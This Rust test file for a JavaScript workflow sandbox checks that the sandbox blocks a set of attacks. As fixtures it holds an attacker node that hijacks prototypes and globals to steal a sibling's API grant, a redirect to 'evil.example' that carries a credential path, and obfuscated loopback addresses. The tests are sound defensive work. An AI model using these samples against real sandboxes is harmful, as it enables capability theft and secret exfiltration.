//! The isolation classes of the attack review (issue 8), one test each, all through the real
//! sandbox and a real HTTP server on 127.0.0.1: a node's code never runs with a sibling's
//! grants, data files are never modules, secrets do not come back in any listed form, special
//! addresses stay closed, logs stay single-line and bounded, bodies stay byte-exact.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use serde_json::json;
use tentacular_sandbox::fetch::net::NetTransport;
use tentacular_sandbox::{
    Auth, AuthKind, Capabilities, Cidr, Dependency, DynamicTarget, Limits, LoadError, NodeError,
    NodeProgram, SecretRef, SecretValues,
};

use crate::server::TestServer;
use crate::support::{sandbox, workflow};

const TOKEN: &str = "reflected-secret-token-0123";
const BASIC: &str = "alice:s3cr3t-password";
const HOOK_PATH: &str = "/reflect-path/services/T0/B0/hook-credential";

fn http_dep(port: u16, auth: Option<(&str, &str)>, granted: bool) -> Dependency {
    Dependency {
        protocol: "http".into(),
        host: "localhost".into(),
        port,
        auth: auth.map(|(kind, secret)| Auth {
            kind: AuthKind::parse(kind).unwrap(),
            secret: SecretRef::parse(secret).unwrap(),
            header: None,
        }),
        granted,
        dynamic: None,
        extra: Default::default(),
    }
}

fn secrets(port: u16) -> SecretValues {
    SecretValues::new(BTreeMap::from([
        (
            "api".to_string(),
            BTreeMap::from([("token".to_string(), TOKEN.to_string())]),
        ),
        (
            "db".to_string(),
            BTreeMap::from([("login".to_string(), BASIC.to_string())]),
        ),
        (
            "hook".to_string(),
            BTreeMap::from([(
                "url".to_string(),
                format!("http://localhost:{port}{HOOK_PATH}"),
            )]),
        ),
    ]))
    .unwrap()
}

/// Node `name`'s capabilities: `api` (bearer), `db` (basic) and `hook` (webhook-url), granted
/// only when `granted`.
fn caps(name: &str, port: u16, granted: bool) -> Arc<Capabilities> {
    Arc::new(
        Capabilities::builder(name)
            .dependency(
                "api",
                http_dep(port, Some(("bearer-token", "api.token")), granted),
            )
            .dependency("db", http_dep(port, Some(("basic", "db.login")), granted))
            .dependency(
                "hook",
                http_dep(port, Some(("webhook-url", "hook.url")), granted),
            )
            .secrets(secrets(port))
            .transport(Arc::new(NetTransport::new().unwrap()))
            .build(),
    )
}

async fn load_all(files: &[(&str, &str)], nodes: &[&str]) -> Vec<Result<NodeProgram, LoadError>> {
    let dir = workflow(files);
    let paths: Vec<String> = nodes.iter().map(|n| format!("nodes/{n}.ts")).collect();
    let paths: Vec<&Path> = paths.iter().map(Path::new).collect();
    sandbox().load_all(dir.path(), &paths).await
}

/// Class 1: hooks a node granted nothing plants at load (prototypes of iterators, typed
/// arrays, promises, Object, JSON, Function, the prelude's own globals) never run inside a
/// sibling granted `api`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hooks_planted_at_load_never_run_inside_a_sibling() {
    let server = TestServer::start().await;
    let attacker = r#"
const steal = (ctx) => { try { ctx?.dependency?.("api")?.fetch?.("/stolen"); } catch (_) {} };
const grab = function () { try { globalThis.__seen = this; } catch (_) {} };
// Every place a sibling's code would pass through in a shared realm.
const arrayIter = [][Symbol.iterator]();
Object.getPrototypeOf(Object.getPrototypeOf(arrayIter)).next = function () { grab.call(this); return { done: true }; };
Object.getPrototypeOf(arrayIter).next = function () { grab.call(this); return { done: true }; };
const TA = Object.getPrototypeOf(Uint8Array);
TA.prototype.set = function () { grab.call(this); };
const then = Promise.prototype.then;
Promise.prototype.then = function (a, b) { grab.call(this); return then.call(this, a, b); };
Object.defineProperty(Object.prototype, "dependencies", { set(v) { steal({ dependency: (n) => v[n] }); }, configurable: true });
Object.defineProperty(Object.prototype, "dependency", { get() { return undefined; }, set(v) { steal({ dependency: v }); }, configurable: true });
JSON.parse = ((p) => (t, r) => { const o = p(t, r); if (o && o.ctx) steal(o.ctx); return o; })(JSON.parse);
const call = Function.prototype.call;
Function.prototype.call = function (...a) { if (a[0] && a[0].dependency) steal(a[0]); return call.apply(this, a); };
globalThis.fetch = () => { steal(globalThis.__ctx); return Promise.resolve(new Response("hijacked")); };
globalThis.setTimeout = (f) => { f(); return 0; };
console.log = () => {};
const registry = new FinalizationRegistry(() => steal(globalThis.__ctx));
for (let i = 0; i < 100; i++) registry.register({ i }, i);
export default async function run(ctx) {
  // Its own realm keeps what it did.
  return { patched: typeof Promise.prototype.then === "function" && Promise.prototype.then !== then };
}
"#;
    let sibling = r#"
export default async function run(ctx, input) {
  const out = [];
  for (const x of [1, 2, 3]) out.push(x);
  const bytes = new Uint8Array(4); bytes.set([1, 2, 3, 4]);
  const parsed = JSON.parse('{"a":1}');
  await new Promise((r) => setTimeout(r, 1));
  const r = await ctx.dependency("api").fetch("/json");
  const body = await r.json();
  for (let i = 0; i < 20000; i++) ({ garbage: i });
  return { out, bytes: [...bytes], parsed, body, fetchIsOurs: String(fetch).includes("hijacked") === false };
}
"#;
    let results = load_all(
        &[
            ("nodes/attacker.ts", attacker),
            ("nodes/sibling.ts", sibling),
        ],
        &["attacker", "sibling"],
    )
    .await;
    let [attacker, sibling] = <[_; 2]>::try_from(results).ok().unwrap();
    let (attacker, sibling) = (attacker.unwrap(), sibling.unwrap());
    let limits = Limits::default();
    let a = attacker
        .invoke(&json!({}), &caps("attacker", server.port, false), &limits)
        .await;
    assert_eq!(a.result.unwrap(), json!({"patched": true}));
    for _ in 0..3 {
        let b = sibling
            .invoke(&json!({}), &caps("sibling", server.port, true), &limits)
            .await;
        assert_eq!(
            b.result.unwrap(),
            json!({"out": [1, 2, 3], "bytes": [1, 2, 3, 4], "parsed": {"a": 1}, "body": {"hello": "world"}, "fetchIsOurs": true})
        );
    }
    let paths: Vec<String> = server.seen().into_iter().map(|s| s.path).collect();
    assert_eq!(
        paths,
        ["/json", "/json", "/json"],
        "only the sibling's own requests"
    );
}

/// Class 1, the structural half: nothing may be pending when the snapshot is taken. A timer,
/// a request or an await that cannot finish at a module's top level is that node's load
/// error, naming its file and line; its siblings still load.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn work_left_pending_at_load_is_a_load_error_naming_the_file() {
    let results = load_all(
        &[
            ("nodes/timer.ts", "// a timer started at load\nsetTimeout(() => {}, 10);\nexport default async function run() { return 1; }\n"),
            ("nodes/await.ts", "// awaits a timer at load\nawait new Promise((r) => setTimeout(r, 5000));\nexport default async function run() { return 1; }\n"),
            ("nodes/fetch.ts", "// fetches at load\nconst r = await fetch(\"http://localhost:1/\");\nexport default async function run() { return 1; }\n"),
            ("nodes/forever.ts", "// awaits what never comes\nawait new Promise(() => {});\nexport default async function run() { return 1; }\n"),
            ("nodes/fine.ts", "const p = Promise.resolve(1).then((x) => x + 1);\nexport default async function run() { return await p; }\n"),
        ],
        &["timer", "await", "fetch", "forever", "fine"],
    )
    .await;
    let mut it = results.into_iter();
    for (name, line) in [("timer", 2), ("await", 2), ("fetch", 2)] {
        let e = it.next().unwrap().unwrap_err().to_string();
        assert!(e.contains(&format!("nodes/{name}.ts")), "{name}: {e}");
        assert!(e.contains("while the module loads"), "{name}: {e}");
        assert!(
            e.contains(&format!("nodes/{name}.ts:{line}")),
            "{name}: {e}"
        );
    }
    let e = it.next().unwrap().unwrap_err().to_string();
    assert!(
        e.contains("nodes/forever.ts") && e.contains("top level awaits"),
        "{e}"
    );
    let fine = it.next().unwrap().unwrap();
    let out = crate::support::run(&fine, json!({})).await;
    assert_eq!(out.result.unwrap(), json!(2));
}

/// Class 2: only source files are modules. `.secrets.yaml` is valid JavaScript when it reads
/// `key: value`; it must be refused without being read, and no message may quote it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_files_and_dot_files_are_never_modules() {
    let secret = "token-value-that-must-not-appear";
    let files: Vec<(String, String)> = vec![
        (".secrets.yaml".into(), format!("token: {secret}\n")),
        (".secrets/github".into(), format!("{{\"token\": \"{secret}\"}}")),
        ("data.json".into(), format!("{{\"token\": \"{secret}\"}}")),
        ("notes.txt".into(), format!("{secret}\n")),
        ("nodes/a.ts".into(), "import s from \"../.secrets.yaml\";\nexport default async function run() { return s; }\n".into()),
        ("nodes/b.ts".into(), "import s from \"../.secrets/github\";\nexport default async function run() { return s; }\n".into()),
        ("nodes/c.ts".into(), "import s from \"../data.json\";\nexport default async function run() { return s; }\n".into()),
        ("nodes/d.ts".into(), "import s from \"../notes.txt\";\nexport default async function run() { return s; }\n".into()),
    ];
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let dir = workflow(&files);
    for node in ["a", "b", "c", "d"] {
        let e = sandbox()
            .load(dir.path(), Path::new(&format!("nodes/{node}.ts")))
            .await
            .unwrap_err();
        assert!(
            matches!(e, LoadError::NotASourceModule { .. }),
            "{node}: {e}"
        );
        let text = e.to_string();
        assert!(text.contains(&format!("nodes/{node}.ts:1")), "{text}");
        assert!(!text.contains(secret), "{node} quotes the secret: {text}");
    }
    // A node whose own path is a data file is refused too.
    let e = sandbox()
        .load(dir.path(), Path::new(".secrets.yaml"))
        .await
        .unwrap_err();
    assert!(matches!(e, LoadError::NotASourceModule { .. }), "{e}");
}

/// Class 3: a dependency that reflects what it receives hands back the secret in many forms;
/// none of them reaches the node, and every scrubbed response is an event.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reflected_secrets_come_back_as_placeholders_in_every_listed_form() {
    let server = TestServer::start().await;
    let node = r#"
export default async function run(ctx) {
  const out = {};
  for (const dep of ["api", "db"]) {
    const r = await ctx.dependency(dep).fetch("/reflect");
    out[dep] = { body: await r.text(), header: r.headers.get("x-reflect"), url: r.url };
  }
  const hook = await ctx.dependency("hook").fetch("");
  out.hook = { body: await hook.text(), url: hook.url };
  try {
    await ctx.dependency("api").fetch("/redirect?to=" + encodeURIComponent("http://evil.example" + "/reflect-path/services/T0/B0/hook-credential"));
  } catch (e) { out.refusal = e.message; }
  return out;
}
"#;
    let results = load_all(&[("nodes/n.ts", node)], &["n"]).await;
    let program = results.into_iter().next().unwrap().unwrap();
    let outcome = program
        .invoke(
            &json!({}),
            &caps("n", server.port, true),
            &Limits::default(),
        )
        .await;
    let text = outcome.result.unwrap().to_string();
    for forbidden in [
        TOKEN,
        BASIC,
        "s3cr3t-password",
        HOOK_PATH,
        "hook-credential",
    ] {
        assert!(
            !text.contains(forbidden),
            "{forbidden} reached the node: {text}"
        );
    }
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    for forbidden in [b64.encode(TOKEN), b64.encode(BASIC)] {
        assert!(
            !text.contains(&forbidden),
            "{forbidden} reached the node: {text}"
        );
    }
    assert!(text.contains("tntc-secret:api.token"), "{text}");
    assert!(text.contains("tntc-secret:db.login"), "{text}");
    assert!(
        outcome
            .events
            .iter()
            .filter(|e| e.reason == "scrubbed")
            .count()
            >= 3,
        "{:?}",
        outcome.events
    );
    assert!(
        outcome.events.iter().any(|e| e.reason == "redirect"),
        "{:?}",
        outcome.events
    );
}

/// Class 5: a dynamic target of half of everything (`0.0.0.0/1`) does not open loopback,
/// whatever the spelling; a block inside loopback does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dynamic_targets_open_special_addresses_only_from_inside() {
    let server = TestServer::start().await;
    let dynamic = |cidrs: &[&str]| Dependency {
        protocol: "http".into(),
        host: String::new(),
        port: 0,
        auth: None,
        granted: true,
        dynamic: Some(DynamicTarget {
            cidrs: cidrs.iter().map(|c| Cidr::parse(c).unwrap()).collect(),
            ports: vec![server.port],
        }),
        extra: Default::default(),
    };
    let caps = |cidrs: &[&str]| {
        Arc::new(
            Capabilities::builder("scanner")
                .dependency("scan", dynamic(cidrs))
                .transport(Arc::new(NetTransport::new().unwrap()))
                .build(),
        )
    };
    let node = r#"
export default async function run(ctx, input) {
  const out = {};
  for (const host of input.hosts) {
    try { out[host] = (await ctx.dependency("scan").fetch(`http://${host}:${input.port}/json`)).status; }
    catch (e) { out[host] = e.name; }
  }
  return out;
}
"#;
    let program = load_all(&[("nodes/n.ts", node)], &["n"])
        .await
        .into_iter()
        .next()
        .unwrap()
        .unwrap();
    let hosts = [
        "127.0.0.1",
        "[::ffff:127.0.0.1]",
        "0x7f.1",
        "2130706433",
        "localhost",
    ];
    let input = json!({"hosts": hosts, "port": server.port});
    let half = program
        .invoke(&input, &caps(&["0.0.0.0/1", "::/0"]), &Limits::default())
        .await;
    let v = half.result.unwrap();
    for h in hosts {
        assert_eq!(v[h], json!("NotPermitted"), "{h}: {v}");
    }
    assert!(server.seen().is_empty(), "{:?}", server.seen());
    let inside = program
        .invoke(
            &json!({"hosts": ["127.0.0.1"], "port": server.port}),
            &caps(&["127.0.0.0/8"]),
            &Limits::default(),
        )
        .await;
    assert_eq!(inside.result.unwrap(), json!({"127.0.0.1": 200}));
}

/// Class 9: a node cannot forge an engine log line, and a huge line is cut before it is
/// copied out of the guest.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn log_lines_stay_single_and_bounded() {
    let node = r#"
export default async function run() {
  console.log("first\nINFO [engine] forged line\r\n\u001b[2J");
  console.log("x".repeat(2 * 1024 * 1024));
  return null;
}
"#;
    let program = load_all(&[("nodes/n.ts", node)], &["n"])
        .await
        .into_iter()
        .next()
        .unwrap()
        .unwrap();
    let out = crate::support::run(&program, json!({})).await;
    out.result.unwrap();
    assert_eq!(
        out.logs[0].message,
        "first\\nINFO [engine] forged line\\r\\n\\u{1b}[2J"
    );
    assert!(out.logs.iter().all(|l| !l.message.contains('\n')));
    assert!(
        out.logs[1].message.len() < 20 * 1024,
        "{}",
        out.logs[1].message.len()
    );
    assert!(out.logs[1].message.ends_with("more bytes cut)"));
}

/// Class 10: bodies arrive byte-exact, and responses held for a node count against its memory.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn binary_bodies_are_byte_exact_and_responses_count_against_memory() {
    let server = TestServer::start().await;
    let node = r#"
export default async function run(ctx, input) {
  const r = await ctx.dependency("api").fetch(input.path);
  const b = new Uint8Array(await r.arrayBuffer());
  let sum = 0; for (const x of b) sum = (sum * 31 + x) % 1000000007;
  return { len: b.length, first: [...b.slice(0, 4)], last: b[b.length - 1], sum };
}
"#;
    let program = load_all(&[("nodes/n.ts", node)], &["n"])
        .await
        .into_iter()
        .next()
        .unwrap()
        .unwrap();
    let c = caps("n", server.port, true);
    let out = program
        .invoke(&json!({"path": "/bytes"}), &c, &Limits::default())
        .await;
    let expected: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    let sum = expected
        .iter()
        .fold(0u64, |s, &x| (s * 31 + x as u64) % 1_000_000_007);
    assert_eq!(
        out.result.unwrap(),
        json!({"len": 4096, "first": [0, 1, 2, 3], "last": 255, "sum": sum})
    );
    let small = Limits {
        memory: 8 << 20,
        ..Limits::default()
    };
    let big = program.invoke(&json!({"path": "/big"}), &c, &small).await;
    match big.result {
        Err(NodeError::JsError { name, message, .. }) => {
            assert_eq!(name, "NetworkError");
            assert!(message.contains("limit"), "{message}");
        }
        other => panic!("{other:?}"),
    }
}

/// Class 11: compiled snapshots are the nodes' code: readable by their owner only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_snapshot_cache_is_private() {
    use std::os::unix::fs::PermissionsExt as _;
    let cache = tempfile::tempdir().unwrap();
    let dir = cache.path().join("nested/cache");
    let sandbox = tentacular_sandbox::Sandbox::new(tentacular_sandbox::SandboxConfig {
        cache_dir: Some(dir.clone()),
        ..Default::default()
    })
    .unwrap();
    let wf = workflow(&[(
        "nodes/n.ts",
        "export default async function run() { return 1; }\n",
    )]);
    sandbox
        .load(wf.path(), Path::new("nodes/n.ts"))
        .await
        .unwrap();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&dir), 0o700);
    let files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert!(!files.is_empty());
    for f in files {
        assert_eq!(mode(&f), 0o600, "{}", f.display());
    }
}
